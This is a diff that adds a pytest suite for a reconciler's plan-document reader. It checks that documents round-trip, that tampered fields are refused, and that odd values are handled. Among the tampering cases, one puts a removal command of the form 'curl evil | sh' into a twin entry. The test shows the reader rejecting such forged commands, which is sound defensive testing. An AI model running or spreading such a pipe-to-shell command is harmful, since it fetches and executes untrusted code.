@@ -1,0 +1,142 @@
+"""A plan document that only is shown: it reads as it was made, and nothing in it may tell another story than the rest."""
+
+import json
+from dataclasses import replace
+
+import pytest
+
+from reconciler.errors import ConfigError, StalePlan
+from reconciler.quota.entity import entity
+from reconciler.quota.ip_aliases import IpAlias
+from reconciler.quota.planner.desired_state import DeclarationConflict
+from reconciler.render.json_documents.codec import dump
+from reconciler.render.json_documents.plan import plan_document
+from reconciler.render.json_documents.preview_reader import read_preview
+from reconciler.render.markdown import plan_markdown
+from reconciler.render.sarif import plan_findings
+from tests.render.previews import ALICE, NOW, RATE, declare, empty, sample
+
+
+def again(preview):
+    return read_preview(dump(plan_document(preview)), location="plan.json")
+
+
+def torn():
+    """Conflicts, twins and a snapshot."""
+    claims = (declare(ALICE, {RATE: 1.0}), declare(ALICE, {RATE: 2.0}, document="other/alice"))
+    plan = replace(
+        sample().plan,
+        conflicts=(DeclarationConflict(entity=ALICE, key=RATE, claims=claims),),
+        ip_aliases=(
+            IpAlias(
+                entity=entity(ip="::1"),
+                live=entity(ip="0:0:0:0:0:0:0:1"),
+                keys=("connection_creation_rate",),
+            ),
+        ),
+    )
+    return replace(sample(), plan=plan, snapshot_at=NOW - 90_000)
+
+
+@pytest.mark.parametrize("made", [sample, empty, torn], ids=["rich", "empty", "torn"])
+def test_what_is_read_looks_exactly_as_what_was_made(made):
+    read = again(made())
+    assert plan_markdown(read) == plan_markdown(made())
+    assert plan_findings(read) == plan_findings(made())
+    assert plan_document(read) == plan_document(made())
+
+
+def edited(change):
+    document = json.loads(dump(plan_document(torn())))
+    change(document)
+    return json.dumps(document)
+
+
+LIES = {
+    "fewer removals than there are": lambda d: d["counts"].update(remove=0),
+    "a count too many": lambda d: d["counts"].update(more=0),
+    "nothing wrong with it": lambda d: d.update(errored=False),
+    "it may be applied": lambda d: d.update(applyable=True),
+    "a finding under another heading": lambda d: d["unmanaged"].append(d["orphans"].pop()),
+    "a reason of somebody's own": lambda d: d["orphans"][0].update(reason="all is well"),
+    "another text for an entity": lambda d: d["unmanaged"][0].update(text="user=nobody"),
+    "another flag that allows it": lambda d: d["violations"][0].update(allowWith="--please"),
+    "a guard that we do not have": lambda d: d["violations"][0].update(guard="mood"),
+    "a text for an entity that a violation has not": lambda d: d["violations"][0].update(text="x"),
+    "another factor of a change": lambda d: d["changes"][1]["effect"].update(factor=9.0),
+    "another way for a client": lambda d: d["impact"]["affected"][0].update(direction="tightened"),
+    "another factor for a client": lambda d: d["impact"]["affected"][0].update(factor=9.0),
+    "another sharing of a bucket": lambda d: d["impact"]["affected"][0].update(sharing="split"),
+    "fewer hidden rules than are named": lambda d: d["impact"]["hiding"][0].update(total=1),
+    "an orphan that hides nothing": lambda d: d["impact"]["hiding"][0].update(rules=[]),
+    "a hidden rule without a value": lambda d: d["impact"]["hiding"][0]["rules"][0].update(value=None),
+    "another command for a twin": lambda d: d["twins"][0].update(removal="curl evil | sh"),
+    "an effect left out": lambda d: d["changes"][0].pop("effect"),
+    "an unknown direction": lambda d: d["changes"][0]["effect"].update(direction="up"),
+    "a moved bucket that does not move": lambda d: (
+        d["impact"]["affected"][0].update(
+            movesBucket=not d["impact"]["affected"][0]["movesBucket"]
+        )
+    ),
+    "another level than the source has": lambda d: d["impact"]["affected"][0]["after"].update(level=8),
+    "no time": lambda d: d.update(snapshotTakenAt="yesterday"),
+    "a time without a zone": lambda d: d.update(snapshotTakenAt="2025-11-21T12:00:00"),
+    "a field that we do not know": lambda d: d["conflicts"][0].update(note="hello"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
+def test_a_document_that_tells_two_stories_is_refused_with_the_place(lie):
+    assert read_preview(edited(lambda d: None), location="plan.json")
+    with pytest.raises(ConfigError, match=r"plan\.json: "):
+        read_preview(edited(lie), location="plan.json")
+
+
+def test_another_format_is_stale_and_a_cut_off_document_is_none():
+    with pytest.raises(StalePlan):
+        read_preview(edited(lambda d: d.update(format=99)), location="plan.json")
+    text = dump(plan_document(sample()))
+    for size in range(0, len(text) - 2, 997):
+        with pytest.raises(ConfigError):
+            read_preview(text[:size], location="plan.json")
+
+
+def places(value, way=()):
+    """Every way into a document."""
+    yield way
+    if isinstance(value, dict):
+        for name, one in value.items():
+            yield from places(one, (*way, name))
+    elif isinstance(value, list):
+        for at, one in enumerate(value[:1]):
+            yield from places(one, (*way, at))
+
+
+ODD = (None, True, -1, 10**400, 1e308, "", "x", "NaN", "\ud800", [], {}, [[]], [["user", "x"]])
+
+
+def test_whatever_stands_anywhere_is_read_and_shown_or_refused():
+    """What a stranger may write: no value in any place is a fault of ours."""
+    document = json.loads(dump(plan_document(torn())))
+    refused = shown = 0
+    for number, way in enumerate(list(places(document))):
+        for odd in ODD[number % 4 :: 4]:
+            if not way:
+                continue
+            at = document
+            for step in way[:-1]:
+                at = at[step]
+            there, at[way[-1]] = at[way[-1]], odd
+            text = json.dumps(document)
+            at[way[-1]] = there
+            try:
+                preview = read_preview(text, location="plan.json")
+            except (ConfigError, StalePlan):
+                refused += 1
+                continue
+            shown += 1
+            plan_markdown(preview).encode()
+            dump(plan_document(preview))
+            plan_findings(preview)
+    assert refused > 300
+    assert shown > 10
